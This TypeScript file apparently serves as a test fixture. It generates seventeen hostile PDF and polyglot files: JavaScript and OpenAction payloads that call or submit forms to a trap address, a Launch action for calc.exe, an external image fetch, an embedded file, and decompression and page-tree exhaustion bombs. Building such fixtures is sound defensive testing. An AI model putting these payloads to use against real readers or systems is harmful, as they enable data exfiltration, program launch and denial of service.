import { deflateSync } from 'node:zlib';

const object = (number: number, body: string): string => `${number} 0 obj\n${body}\nendobj\n`;

function stream(number: number, dictionary: string, content: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`${number} 0 obj\n<< ${dictionary} /Length ${content.length} >>\nstream\n`), content, Buffer.from('\nendstream\nendobj\n')]);
}

interface Parts {
  readonly catalog?: string;
  readonly pages?: string;
  readonly page?: string;
  readonly content?: Buffer;
  readonly contentDictionary?: string;
  readonly more?: readonly (string | Buffer)[];
}

const TEXT = Buffer.from('BT /F1 24 Tf 40 700 Td (Lisible) Tj ET');

/** A document of one page that shows a word, but for the parts that are given; its table of objects always lies. */
function pdf({ catalog = '', pages = '/Kids [3 0 R] /Count 1', page = '', content = TEXT, contentDictionary = '', more = [] }: Parts): Buffer {
  const parts = [
    '%PDF-1.7\n',
    object(1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`),
    object(2, `<< /Type /Pages ${pages} >>`),
    object(3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${page} /Resources << /Font << /F1 5 0 R >> /XObject << /I 6 0 R >> >> >>`),
    stream(4, contentDictionary, content),
    object(5, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'),
    ...more,
    'trailer << /Root 1 0 R /Size 40 >>\nstartxref\n999999999\n%%EOF\n',
  ];
  return Buffer.concat(parts.map((part) => Buffer.from(part)));
}

interface HostilePdf {
  readonly name: string;
  readonly bytes: Buffer;
}

const ONE_MB = 1024 * 1024;
const MANY_PAGES = 3_000;

/** PDFs made to run, to call or to exhaust; `trap` is an address that nobody may ask for. */
export function hostilePdfs(trap: string): readonly HostilePdf[] {
  const js = `/S /JavaScript /JS (app.alert\\(1\\); app.launchURL\\("${trap}/js"\\); this.submitForm\\("${trap}/form"\\);)`;
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${trap}/link) >> >>`;
  const outside = stream(6, `/Type /XObject /Subtype /Image /Width 4 /Height 4 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${trap}/image) >>`, Buffer.from(''));
  const hugeImage = stream(6, '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB', Buffer.from('abc'));
  const drawn = Buffer.concat([TEXT, Buffer.from(' q 300 0 0 300 100 100 cm /I Do Q')]);
  const manyKids = `/Kids [3 0 R ${Array.from({ length: MANY_PAGES - 1 }, (_, rank) => `${40 + rank} 0 R`).join(' ')}] /Count ${MANY_PAGES}`;
  const others = Array.from({ length: MANY_PAGES - 1 }, (_, rank) => object(40 + rank, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'));
  return [
    { name: 'a script at its opening', bytes: pdf({ catalog: `/OpenAction << ${js} >> /AA << /WC << ${js} >> >>` }) },
    { name: 'a script named for the whole document', bytes: pdf({ catalog: `/Names << /JavaScript << /Names [(a) << ${js} >>] >> >>`, page: `/AA << /O << ${js} >> >>` }) },
    { name: 'a call of an address at its opening', bytes: pdf({ catalog: `/OpenAction << /S /URI /URI (${trap}/open) >>`, page: `/Annots [${link}]` }) },
    { name: 'a form sent at its opening', bytes: pdf({ catalog: `/OpenAction << /S /SubmitForm /F (${trap}/submit) >>` }) },
    { name: 'a picture to be fetched elsewhere', bytes: pdf({ content: drawn, more: [outside] }) },
    { name: 'a file inside', bytes: pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a.txt) 7 0 R] >> >>', more: [object(7, '<< /Type /Filespec /F (a.txt) /EF << /F 8 0 R >> >>'), stream(8, '/Type /EmbeddedFile', Buffer.from('bonjour'))] }) },
    { name: 'a program to launch', bytes: pdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }) },
    { name: 'a picture of 3.6 billion points', bytes: pdf({ content: drawn, more: [hugeImage] }) },
    { name: 'a page as wide as a country', bytes: pdf({ page: '/MediaBox [0 0 9000000 9000000]' }) },
    { name: 'a billion pages that are not there', bytes: pdf({ pages: '/Kids [3 0 R] /Count 1000000000' }) },
    { name: 'more pages than a window can hold', bytes: pdf({ pages: manyKids, more: others }) },
    { name: 'pages that are their own children', bytes: pdf({ pages: '/Kids [2 0 R 2 0 R] /Count 1000000000' }) },
    { name: 'a page that writes without end', bytes: pdf({ content: deflateSync(Buffer.alloc(8 * ONE_MB, 'q 1 0 0 1 0 0 cm Q ')), contentDictionary: '/Filter /FlateDecode' }) },
    { name: 'no page at all', bytes: pdf({ pages: '/Kids [] /Count 0' }) },
    { name: 'objects nested without end', bytes: pdf({ pages: '['.repeat(200_000) }) },
    { name: 'a page of HTML under its name', bytes: Buffer.from(`<!doctype html><script src="${trap}/html"></script><!-- %PDF-1.7 %%EOF -->`) },
    { name: 'a drawing with a script under its name', bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${trap}/svg"/><script>alert(1)</script><!-- %PDF-1.7 %%EOF --></svg>`) },
  ];
}
